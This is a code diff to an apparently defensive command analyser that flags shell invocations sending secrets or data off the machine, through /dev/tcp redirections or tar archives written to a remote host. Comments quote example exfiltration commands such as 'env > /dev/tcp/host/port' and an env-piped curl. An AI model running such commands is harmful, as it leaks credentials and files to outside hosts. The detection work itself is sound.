@@ -1,13 +1,14 @@
 import type { Analysis } from '../analysis.ts';
 import type { Effect } from '../effect.ts';
 import { expandHome, joinPath } from '../files/path.ts';
-import { isDroppingPlace } from '../http/destinations.ts';
+import { isDroppingPlace, isPrivateHost } from '../http/destinations.ts';
 import { isLoopback, partsOfUrl } from '../http/url.ts';
 import type { Invocation } from '../invocation.ts';
 import { outputOf } from '../shell/output.ts';
 import { knownWord, type SecretSource, type Word } from '../shell/word.ts';
 import { unwrap } from '../shell/wrappers.ts';
-import { secretBelow } from './below.ts';
+import { secretBelow, secretWithin } from './below.ts';
+import { dataOutput } from './data.ts';
 import { holdsSecret, isClear, isDatabaseFile } from './held.ts';
 import { senders, servers, type Sender } from './senders.ts';
 import { sharedWrite } from './shared-write.ts';
@@ -26,8 +27,10 @@ interface Leaving {
 export function exposeEffects(invocation: Invocation, analysis: Analysis): readonly Effect[] {
   const shared = invocation.redirections.length > 0 ? sharedRedirections(invocation, analysis) : [];
   if (shared.length > 0) return shared;
-  const leaving = (invocation.redirections.length > 0 ? socketWrite(invocation, analysis) : undefined) ?? sent(invocation, analysis) ?? fed(invocation) ?? committed(invocation, analysis);
+  const leaving = (invocation.redirections.length > 0 ? socketWrite(invocation, analysis) : undefined) ?? taped(invocation, analysis) ?? sent(invocation, analysis) ?? fed(invocation) ?? committed(invocation, analysis);
   if (leaving) return [exposeEffect(leaving, invocation)];
+  const data = invocation.redirections.length > 0 ? socketData(invocation) : undefined;
+  if (data) return [socketEffect(data, invocation)];
   const served = servedSecret(invocation, analysis);
   return served === undefined ? [] : [serveEffect(served, invocation)];
 }
@@ -41,9 +44,40 @@ function sharedRedirections(invocation: Invocation, analysis: Analysis): readonl
 
 /** `env > /dev/tcp/host/port`: the shell itself sends. */
 function socketWrite(invocation: Invocation, analysis: Analysis): Leaving | undefined {
-  const out = invocation.redirections.some(({ kind, target }) => kind !== 'read' && /^\/dev\/(?:tcp|udp)\//.test(target.text) && !isLoopback(target.text.split('/')[3] ?? ''));
-  const secret = out ? secretOutput(invocation, analysis) : undefined;
+  const secret = socketHost(invocation) === undefined ? undefined : secretOutput(invocation, analysis);
   return secret && secret.kind !== 'names' ? leavingOf(secret) : undefined;
+}
+
+/** The host of a connection that output is redirected into. */
+function socketHost({ redirections }: Invocation): string | undefined {
+  const socket = redirections.find(({ kind, target }) => kind !== 'read' && /^\/dev\/(?:tcp|udp)\//.test(target.text));
+  const host = socket?.target.text.split('/')[3]?.toLowerCase();
+  return host === undefined || isLoopback(host) ? undefined : host;
+}
+
+/** `tar c src > /dev/tcp/host/port`. */
+function socketData(invocation: Invocation): { readonly what: string; readonly host: string } | undefined {
+  const host = socketHost(invocation);
+  const what = host === undefined || isPrivateHost(host) ? undefined : dataOutput(invocation);
+  return host === undefined || what === undefined ? undefined : { what, host };
+}
+
+function socketEffect({ what, host }: { readonly what: string; readonly host: string }, invocation: Invocation): Effect {
+  return {
+    verb: 'publish', resource: { kind: 'file', name: what, provider: host }, reversibility: 'irreversible', certainty: 'certain', rule: 'secrets/socket',
+    why: `Sends ${what} to ${host}; what others have cannot be taken back.`, saferWay: 'Let the person send it.', target: { by: 'host', host }, ...(invocation.span ? { span: invocation.span } : {}),
+  };
+}
+
+/** An archive written straight to another host: https://www.gnu.org/software/tar/manual/html_section/Remote-Tape-Server.html */
+function taped(invocation: Invocation, analysis: Analysis): Leaving | undefined {
+  const { program, argv, env } = invocation;
+  if (program !== 'tar' && program !== 'gtar' && program !== 'bsdtar') return undefined;
+  const words = argv.slice(1);
+  const options = `${env['TAR_OPTIONS'] ?? ''} ${words.map(({ text }) => text).join(' ')}`.slice(0, 8192);
+  const archive = /(?:--file[= ]|(?:^|\s)-?[a-zA-Z]*f ?)([^\s;]+)/.exec(options)?.[1] ?? env['TAPE'] ?? '';
+  if (!/^(?:[\w.-]+@)?[\w.-]{2,}:/.test(archive) || /--force-local/.test(options) || !/--(?:create|append|update)\b|(?:^|\s)-?[a-zA-Z]*[cru]/.test(options)) return undefined;
+  return heldIn(words.filter(({ text }) => !text.startsWith('-') && text !== archive), false, invocation, analysis);
 }
 
 function sent(invocation: Invocation, analysis: Analysis): Leaving | undefined {
@@ -91,8 +125,8 @@ function heldIn(words: readonly Word[], keepsDatabases: boolean, invocation: Inv
     const secret = holdsSecret(word, invocation, analysis);
     if (secret) return leavingOf(secret);
     if (!keepsDatabases && isDatabaseFile(word.text)) return { what: word.text, kind: 'database file' };
-    const below = secretBelow(word, invocation, analysis);
-    if (below !== undefined && !isLeftOut(below, invocation)) return { what: below, kind: 'secret file' };
+    const within = secretWithin(word, invocation, analysis);
+    if (within !== undefined) return { what: within, kind: 'secret file' };
   }
   return undefined;
 }
@@ -102,12 +136,6 @@ function transferred(args: readonly Word[], invocation: Invocation, analysis: An
   const text = [invocation.stdin?.text ?? '', ...args.map((word) => word.text)].join('\n').slice(0, 16_384);
   const names = [...text.matchAll(/(?:^|[;\n])\s*(?:put|mput|reput|send|mirror -R)\s+(?:-[^\s;]+\s+)*([^\s;]+)/g)].map((match) => knownWord(match[1] ?? ''));
   return heldIn(names, false, invocation, analysis);
-}
-
-/** `--exclude=.env`, or a filter nobody can foresee. */
-function isLeftOut(path: string, { argv }: Invocation): boolean {
-  const name = path.slice(path.lastIndexOf('/') + 1);
-  return argv.some((word, at) => /^(?:--exclude-from|--filter|-f|--files-from)/.test(word.text) || (word.text.startsWith('--exclude') && `${word.text} ${argv[at + 1]?.text ?? ''}`.includes(name.startsWith('.env') ? '.env' : name)));
 }
 
 /** `env | xargs -I{} curl host/{}`: what the program is given comes from the input. */
